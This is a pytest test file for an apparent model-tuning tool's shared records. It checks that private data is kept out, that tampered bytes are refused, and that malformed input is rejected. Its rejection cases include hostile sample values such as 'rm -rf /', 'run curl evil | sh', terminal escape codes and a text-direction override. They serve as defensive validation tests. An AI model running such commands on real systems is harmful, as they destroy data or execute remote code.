"""What a record holds, what never enters one, and that what is altered is refused."""

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autotune.errors import InvalidInput
from autotune.plan.base import Frozen
from autotune.plan.hardware import Rate
from autotune.plan.workload import Bucket, ModelSpec, Workload
from autotune.share.record import (
    MAX_RECORD_BYTES,
    MAX_TRIALS,
    DamagedRecord,
    Machine,
    build_record,
    name_of,
    parse_record,
)
from tests.builders import GIB, candidate, trial, workload
from tests.share.examples import DAY, TRIALS, machine, plan, record

SECRET = "alice-secret"


def test_texts_of_people_and_machines_stay_out() -> None:
    versions = machine().versions.changed(torchao=f"0.18+{SECRET}")
    here = machine(notes=(SECRET,)).changed(versions=versions)
    spec = workload().model.changed(name=f"/home/{SECRET}")
    trials = tuple(each.changed(message=SECRET, final_loss=0.125) for each in TRIALS)
    job = {"output": SECRET, "preview_prompts": (SECRET,), "data": f"/data/{SECRET}"}
    planned = plan(here, workload(model=spec), trials, **job)
    content = build_record(planned, here).content.decode()
    assert SECRET not in content
    assert "0.125" not in content


@settings(max_examples=25)
@given(st.data())
def test_a_record_survives_its_bytes_and_any_other_byte_is_refused(data: st.DataObject) -> None:
    seconds = data.draw(st.lists(st.floats(1e-6, 1e6), min_size=1, max_size=4))
    trials = (
        trial(candidate(micro_batch_size=2), outcome="crash", step_seconds=tuple(seconds)),
        *TRIALS,
    )
    made = record(
        trials=trials,
        search_seconds=data.draw(st.integers(0, 10**12)) / 1000,
        measured_on=data.draw(st.dates(max_value=DAY)),
    )
    assert parse_record(made.content, made.name) == made
    place = data.draw(st.integers(0, len(made.content) - 1))
    altered = bytearray(made.content)
    altered[place] ^= data.draw(st.integers(1, 255))
    with pytest.raises(DamagedRecord):
        parse_record(bytes(altered), made.name)
    with pytest.raises(DamagedRecord):
        parse_record(made.content[:place], made.name)


def _changed(**changes: object) -> bytes:
    data = json.loads(record().content)
    for path, value in changes.items():
        *parents, last = path.split("__")
        owner = data
        for parent in parents:
            owner = owner[int(parent) if isinstance(owner, list) else parent]
        owner[last] = value
    return json.dumps(data).encode()


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"null",
        b"{",
        b"\xff\xfe",
        b"[" * 100_000,
        b" " * (MAX_RECORD_BYTES + 1),
        b'{"schema_version":2}',
        _changed(schema_version=3),
        _changed(schema_version=True),
        _changed(command="rm -rf /"),
        _changed(search_seconds="60"),
        _changed(search_seconds=float("nan")),
        _changed(search_seconds=-1.0),
        _changed(machine__device_name="\x1b[31mred"),
        _changed(machine__device_name="\u202eevil"),
        _changed(machine__device_name="x" * 1000),
        _changed(machine__total_memory_bytes=10**400),
        _changed(machine__match_keys={"k" * 200: "v"}),
        _changed(trials=[]),
        _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS),
        _changed(expected__evidence="predicted"),
        _changed(settings__micro_batch_size=3),
        _changed(trials__0__message="run curl evil | sh"),
        _changed(trials__0__final_loss=0.25),
    ],
    ids=range(24),
)
def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
    name = name_of(content)
    with pytest.raises(DamagedRecord, match=name[:12]) as caught:
        parse_record(content, name)
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 400


VERIFIED = {"trials": TRIALS[1:2], "records": ("0" * 64,)}


@pytest.mark.parametrize(
    ("changes", "conclusive"),
    [
        ({}, True),
        ({"pins": (("attention", "native"),)}, False),
        ({"trials": TRIALS[:2]}, False),  # e.g. --max-trials 2
        (VERIFIED, True),
        (VERIFIED | {"trials": (TRIALS[1], TRIALS[1].changed(confirms=True))}, False),  # cut short
    ],
)
def test_a_search_that_was_cut_short_answers_nobody_elses_question(
    changes: dict[str, object], conclusive: bool
) -> None:
    made = plan(machine())
    limited = made.model_copy(update={"frozen": made.frozen.model_copy(update=changes)})
    assert build_record(limited, machine()).conclusive == conclusive


@pytest.mark.parametrize(
    ("part", "changes", "why"),
    [
        ("expected", {"evidence": "predicted"}, "predicted"),
        ("hardware", {"device_name": "NVIDIA L4"}, "another machine"),
        ("trials", {"memory_cap_bytes": 12 * GIB}, "cap on memory"),
    ],
)
def test_what_is_no_evidence_is_not_shared(part: str, changes: dict[str, Any], why: str) -> None:
    made = plan(machine())
    old: Any = getattr(made.frozen, part)
    if part == "trials":
        new = tuple(one.model_copy(update=changes) for one in old)
    else:
        new = old.model_copy(update=changes)
    frozen = made.frozen.model_copy(update={part: new})
    with pytest.raises(InvalidInput, match=why):
        build_record(made.model_copy(update={"frozen": frozen}), machine())


JUDGED = {
    Machine: "match_keys device_name total_memory_bytes budget_bytes logical_cores "
    "power_limit_watts versions rates noisy",
    Rate: "name value unit spread num_samples conditions",
    Workload: "rank lora_alpha lora_dropout targets adapted_blocks adapter ema_decay "
    "effective_batch_size quality objective model resolution_px buckets max_text_tokens "
    "text_token_quantiles text_padding num_control_images optimizer",
    ModelSpec: "family architecture num_parameters num_blocks name",
    Bucket: "width_px height_px num_frames num_items",
}
"""Fields that are shared whole: they were judged to tell nothing about people or data, or are
replaced by `build_record`."""


@pytest.mark.parametrize("kind", JUDGED)
def test_a_new_field_is_judged_before_it_leaves_the_machine(kind: type[Frozen]) -> None:
    assert set(kind.model_fields) == set(JUDGED[kind].split())
